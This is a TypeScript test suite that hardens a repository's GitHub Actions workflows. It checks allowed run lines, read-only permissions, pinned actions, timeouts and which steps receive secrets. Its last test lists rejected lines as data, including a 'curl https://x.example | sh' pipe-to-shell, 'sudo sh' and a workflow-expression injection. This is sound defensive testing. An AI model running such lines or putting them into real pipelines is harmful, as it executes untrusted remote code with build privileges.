import assert from 'node:assert/strict';
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { parseDocument } from 'yaml';
import { COMMANDS } from '../pozyka/commands.mjs';
import { workspaceRoot } from '../start/paths.mjs';
import { STEPS } from './steps.ts';

interface Step {
  uses?: string;
  run?: string;
  with?: Record<string, unknown>;
  env?: Record<string, unknown>;
}

interface Job {
  steps: Step[];
  if?: string;
  needs?: string;
  env?: Record<string, unknown>;
  permissions?: object;
  concurrency?: { group: string; 'cancel-in-progress': unknown };
  strategy?: { 'fail-fast': boolean; matrix: Record<string, unknown> };
  'timeout-minutes'?: number;
}

interface Workflow {
  permissions: Record<string, string>;
  jobs: Record<string, Job>;
}

const home = join(workspaceRoot, '.github/workflows');
const files = readdirSync(home);
const { scripts } = JSON.parse(readFileSync(join(workspaceRoot, 'package.json'), 'utf8')) as { scripts: Record<string, string> };

const read = (file: string): Workflow => {
  const document = parseDocument(readFileSync(join(home, file), 'utf8'), { strict: true, uniqueKeys: true });
  assert.deepEqual([...document.errors, ...document.warnings], []);
  return document.toJS() as Workflow;
};

const jobsOf = (file: string): [string, Job][] => Object.entries(read(file).jobs);
const linesOf = ({ steps }: Job): string[] => steps.flatMap(({ run }) => run?.trim().split('\n') ?? []);

/** What is wrong with a line that a workflow runs; undefined when nothing is. */
const fault = (line: string): string | undefined => {
  if (line.includes('${{')) return 'what GitHub puts in here would be run: pass it by env';
  if (line === 'npm ci' || line === 'npm test' || line.startsWith('npm test -- ')) return undefined;
  // what the runner's image lacks
  if (/^sudo apt-get update && sudo apt-get install -y(?: [a-z][\w-]*)+$/.test(line)) return undefined;
  // Nx looks up by it what another runner cached
  if (/^echo [0-9a-f]{32} \| sudo tee \/etc\/machine-id$/.test(line)) return undefined;
  const [, script] = /^npm run ([\w:]+)(?: -- .*)?$/.exec(line) ?? [];
  if (script !== undefined) return script in scripts ? undefined : `package.json has no script ${script}`;
  const [, command] = /^npx pozyka ([\w:]+)(?: .*)?$/.exec(line) ?? [];
  if (command !== undefined) return Object.hasOwn(COMMANDS, command) ? undefined : `pozyka has no command ${command}`;
  const [, tool] = /^node (tools\/\S+)/.exec(line) ?? [];
  if (tool !== undefined) return existsSync(join(workspaceRoot, tool)) ? undefined : `${tool} is not there`;
  return 'is neither a script nor a command of this repository';
};

for (const file of files) {
  describe(file, () => {
    it('runs nothing but scripts and tools of this repository that are there, and what brings packages of the system', () => {
      const lines = jobsOf(file).flatMap(([, job]) => linesOf(job));
      assert.ok(lines.length > 0);
      assert.deepEqual(
        lines.flatMap((line) => fault(line) ?? []),
        [],
      );
    });

    it('may read, and nothing else', () => {
      const { permissions, jobs } = read(file);
      assert.deepEqual(permissions, { contents: 'read', actions: 'read' });
      for (const [name, job] of Object.entries(jobs)) assert.equal(job.permissions, undefined, name);
    });

    it('uses known actions by their version, and leaves no token behind', () => {
      const uses = jobsOf(file).flatMap(([, { steps }]) => steps.filter((step) => step.uses !== undefined));
      for (const { uses: name = '', with: settings } of uses) {
        assert.match(name, /^(?:actions\/[\w/-]+|nrwl\/nx-set-shas)@(?:v\d+|[0-9a-f]{40})$/);
        if (name.startsWith('actions/checkout@')) assert.equal(settings?.['persist-credentials'], false);
      }
    });

    it('ends by itself when something hangs', () => {
      for (const [name, job] of jobsOf(file)) assert.ok((job['timeout-minutes'] ?? 0) > 0, name);
    });
  });
}

describe('ci.yml', () => {
  const { check, full, plan, deliver } = read('ci.yml').jobs;

  it('has the steps of npx pozyka ci', () => {
    assert.ok(check && plan && deliver);
    const lines = linesOf(check);
    assert.ok(lines.includes(STEPS.check));
    const redis = lines.findIndex((line) => /apt-get install .*\bredis-server\b/.test(line));
    assert.ok(redis !== -1 && redis < lines.indexOf(STEPS.check), 'specs need it, and who runs them is not root');
    assert.ok(full && linesOf(full).includes(STEPS.full));
    assert.deepEqual([full.needs, plan.needs, deliver.needs], ['check', 'full', 'plan'], 'a red suite stops a delivery');
    assert.ok(linesOf(plan).includes(STEPS.plan));
    assert.deepEqual(linesOf(deliver), ['npm ci', STEPS.build, ...STEPS.leg]);
  });

  it('delivers what main has, each app by itself and one after another', () => {
    assert.match(plan?.if ?? '', /github\.event_name == 'push' && github\.ref == 'refs\/heads\/main'/);
    assert.equal(deliver?.strategy?.['fail-fast'], false);
    assert.deepEqual(deliver.concurrency, { group: 'deliver-${{ matrix.leg.name }}', 'cancel-in-progress': false });
  });

  it('gives secrets to steps that speak with the store, and never to what a pull request runs', () => {
    const hasSecret = (value: unknown): boolean => JSON.stringify(value ?? {}).includes('secrets.');
    assert.equal(hasSecret(check), false);
    for (const job of [plan, deliver]) {
      assert.equal(hasSecret(job?.env), false);
      const trusted = job?.steps.filter(({ env }) => hasSecret(env)).map(({ run }) => run) ?? [];
      for (const line of trusted) assert.match(line ?? '', /^npx pozyka delivery /);
    }
    const signing = [plan, deliver].flatMap((job) => job?.steps ?? []).filter(({ env }) => env?.['RELEASE_SIGNING_KEY'] !== undefined);
    assert.deepEqual(
      signing.map(({ run }) => run),
      ['npx pozyka delivery deliver "$APPS"'],
      'what stores releases signs them, and nothing else has the key',
    );
  });
});

describe('a line of a workflow', () => {
  it('is told when it is no part of this repository', () => {
    const lines = [
      'npm run no-such',
      'node tools/no-such.mjs',
      'curl https://x.example | sh',
      'sudo sh',
      'npx pozyka delivery deliver ${{ x }}',
    ];
    assert.equal(lines.filter((line) => fault(line) === undefined).length, 0);
  });
});
